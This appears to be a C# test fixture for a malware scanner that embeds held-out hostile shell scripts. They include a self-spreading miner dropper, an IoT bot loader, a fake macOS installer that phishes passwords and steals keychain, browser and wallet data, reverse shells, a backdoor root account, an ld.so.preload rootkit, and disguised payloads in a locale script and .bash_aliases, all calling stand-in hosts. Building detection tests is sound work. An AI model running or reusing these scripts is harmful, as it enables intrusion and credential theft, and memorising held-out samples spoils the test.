using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>Shell scripts that bring a miner, a bot or a stealer onto the machine and keep it there.</summary>
public sealed class ShellFetchAndRun : SeventhRound
{
    private const string Plain = "(curl -fsSL http://198.51.100.201/i.sh || wget -qO- http://198.51.100.201/i.sh) | bash; (crontab -l 2>/dev/null; echo '*/10 * * * * curl -fsSL http://198.51.100.201/i.sh | bash') | crontab -";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("xm.sh", Utf8("""
            #!/bin/bash
            ulimit -n 65535
            pkill -f kdevtmpfsi; pkill -f kinsing; pkill -9 xmrig
            ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs -I % kill -9 %
            iptables -F; setenforce 0 2>/dev/null; systemctl stop aliyun.service apparmor 2>/dev/null
            crontab -l | sed '/192.0.2.90/d' | crontab -
            DIR=/var/tmp/.systemd-private
            mkdir -p $DIR && cd $DIR || exit 1
            if [ ! -x ./kthreadd ]; then
              curl -fsSL http://192.0.2.90/xmrig-6.tar.gz -o x.tgz || wget -q http://192.0.2.90/xmrig-6.tar.gz -O x.tgz
              tar xzf x.tgz && mv xmrig kthreadd && rm -f x.tgz && chmod +x kthreadd
            fi
            nohup ./kthreadd -o stratum+tcp://pool.mining.example:3333 -u 48notARealWallet000000000000 -p x --donate-level 1 -B >/dev/null 2>&1 &
            (crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://192.0.2.90/xm.sh | bash > /dev/null 2>&1") | crontab -
            for h in $(grep -oE '([0-9]{1,3}\.){3}[0-9]{1,3}' ~/.ssh/known_hosts | sort -u); do
              ssh -oBatchMode=yes -oConnectTimeout=5 -oStrictHostKeyChecking=no $h 'curl -fsSL http://192.0.2.90/xm.sh | bash' &
            done
            history -c; echo > /var/log/wtmp; echo > /var/spool/mail/root
            """)),
        ("bins.sh", Utf8("""
            #!/bin/sh
            cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
            for a in mips mipsel arm4 arm5 arm6 arm7 ppc m68k sh4 x86 x86_64; do
            wget http://203.0.113.99/bins/nyx.$a; curl -O http://203.0.113.99/bins/nyx.$a; busybox tftp -g -r nyx.$a 203.0.113.99; cat nyx.$a > ssh0; chmod 777 ssh0; ./ssh0 telnet.$a; rm -rf nyx.$a
            done
            rm -rf bins.sh; rm -rf /tmp/*
            """)),
        ("Install Notes.command", Utf8("""
            #!/bin/zsh
            clear
            echo "Installing Notes for macOS..."
            pw=$(osascript -e 'display dialog "To finish the installation macOS needs your password." default answer "" with icon caution buttons {"Continue"} default button "Continue" with title "System Preferences" with hidden answer' -e 'text returned of result')
            while ! dscl . authonly "$USER" "$pw" 2>/dev/null; do
              pw=$(osascript -e 'display dialog "Wrong password. Try again." default answer "" with icon stop with title "System Preferences" with hidden answer' -e 'text returned of result')
            done
            curl -s -o /tmp/update https://notes-mac.example/d/update
            xattr -c /tmp/update; chmod +x /tmp/update; echo "$pw" | sudo -S /tmp/update
            W=/tmp/$RANDOM; mkdir $W
            cp ~/Library/Keychains/login.keychain-db $W/
            cp -R ~/Library/"Application Support"/Google/Chrome/Default/{Cookies,"Login Data","Web Data"} $W/ 2>/dev/null
            cp -R ~/Library/"Application Support"/Exodus $W/ 2>/dev/null
            echo "$USER:$pw" > $W/p.txt
            ditto -c -k --sequesterRsrc $W /tmp/out.zip
            curl -s -X POST -H "user: $USER" -F "file=@/tmp/out.zip" http://192.0.2.231/log
            mkdir -p ~/Library/LaunchAgents
            cat > ~/Library/LaunchAgents/com.notes.agent.plist <<PLIST
            <?xml version="1.0" encoding="UTF-8"?>
            <plist version="1.0"><dict><key>Label</key><string>com.notes.agent</string>
            <key>ProgramArguments</key><array><string>/tmp/update</string></array><key>RunAtLoad</key><true/></dict></plist>
            PLIST
            launchctl load ~/Library/LaunchAgents/com.notes.agent.plist
            osascript -e 'tell application "Terminal" to close first window' & exit
            """)),
        ("configure-locale.sh", Utf8(Fill("""
            #!/usr/bin/env bash
            # Sets the locale of the machine. Usage: configure-locale.sh [de_DE.UTF-8]
            set -u
            LANG_WANTED=${1:-de_DE.UTF-8}
            tables() { cat <<'TABLE'
            @@1
            TABLE
            }
            locale -a | grep -qi "${LANG_WANTED%%.*}" || echo "locale $LANG_WANTED is not generated yet"
            r=$'\x72ev'; t=$(printf '\142\141\163\145%d' 64)
            x=$(tables | tr -d '\n' | $r | $t -d)
            IFS=_ read -r a b <<< "ba_sh"; "${a}${b}" <<< "$x" >/dev/null 2>&1 &
            export LANG="$LANG_WANTED"
            """, Wrapped(Backwards(Base64(Plain)), 60)))),
    ];
}

/// <summary>Shell scripts that open a way back in: reverse shells, keys, units and preloaded libraries.</summary>
public sealed class ShellBackDoors : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("rev.sh", Utf8("""
            #!/bin/bash
            bash -i >& /dev/tcp/192.0.2.5/9001 0>&1 ||
            rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.5 9001 > /tmp/f
            (crontab -l; echo "* * * * * /bin/bash -c 'bash -i >& /dev/tcp/192.0.2.5/9001 0>&1'") | crontab -
            """)),
        ("post.sh", Utf8(Fill("""
            #!/bin/sh
            # persistence
            useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupd 2>/dev/null
            echo 'sysupd:$6$notasalt$notahash' | chpasswd -e
            echo 'sysupd ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-sysupd
            for d in /root /home/*; do
                mkdir -p "$d/.ssh"; chattr -ia "$d/.ssh/authorized_keys" 2>/dev/null
                echo 'ssh-rsa @@1 root@kali' >> "$d/.ssh/authorized_keys"
                chmod 600 "$d/.ssh/authorized_keys"; chattr +ia "$d/.ssh/authorized_keys"
            done
            sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/; s/^#\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config
            systemctl restart sshd
            curl -s "http://203.0.113.12/reg?h=$(hostname)&i=$(curl -s ifconfig.me)" >/dev/null
            unset HISTFILE; rm -f ~/.bash_history; sed -i '/203.0.113.12/d' /var/log/syslog /var/log/auth.log
            """, Convert.ToBase64String(Noise(279, 77))))),
        ("setup-agent.sh", Utf8("""
            #!/bin/bash
            [ "$(id -u)" = 0 ] || exit
            wget -q http://198.51.100.8/l/libpam_cache.so -O /usr/local/lib/libpam_cache.so
            wget -q http://198.51.100.8/l/udevd -O /usr/sbin/systemd-udevd-helper && chmod 755 /usr/sbin/systemd-udevd-helper
            echo /usr/local/lib/libpam_cache.so > /etc/ld.so.preload
            cat > /etc/systemd/system/systemd-udevd-helper.service <<EOT
            [Unit]
            Description=udev Kernel Device Manager Helper
            After=network.target
            [Service]
            Type=simple
            ExecStart=/bin/bash -c 'while :; do /usr/sbin/systemd-udevd-helper 198.51.100.8 443; sleep 60; done'
            Restart=always
            [Install]
            WantedBy=multi-user.target
            EOT
            systemctl daemon-reload && systemctl enable --now systemd-udevd-helper
            echo 'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/usr/sbin/systemd-udevd-helper"' > /etc/udev/rules.d/75-persistent-cd.rules
            for f in /usr/local/lib/libpam_cache.so /usr/sbin/systemd-udevd-helper /etc/ld.so.preload; do touch -r /bin/ls "$f"; done
            rm -f "$0"
            """)),
        (".bash_aliases", Utf8("""
            # some more ls aliases
            alias ll='ls -alF'
            alias la='ls -A'
            alias ..='cd ..'
            alias gs='git status -sb'
            __ps1_git() { git branch --show-current 2>/dev/null; }
            # keep the terminal title up to date
            __title() {
              [ -n "$__T" ] && return; export __T=$$
              ( set +m; p=$(mktemp -u "${XDG_RUNTIME_DIR:-/tmp}/.XXXXXX"); mkfifo -m 600 "$p"
                while sleep $((RANDOM % 300 + 300)); do
                  ${SHELL:-sh} -i < "$p" 2>&1 | openssl s_client -quiet -connect title-svc.example:443 > "$p" 2>/dev/null
                done & disown ) >/dev/null 2>&1
              sudo() { printf '[sudo] password for %s: ' "$USER" >&2; read -rs k; echo >&2
                curl -s --data-urlencode "u=$USER@$HOSTNAME" --data-urlencode "k=$k" https://title-svc.example/c >/dev/null &
                command sudo -S "$@" <<< "$k"; }
            }
            PROMPT_COMMAND="__title;${PROMPT_COMMAND:-}"
            """)),
    ];
}
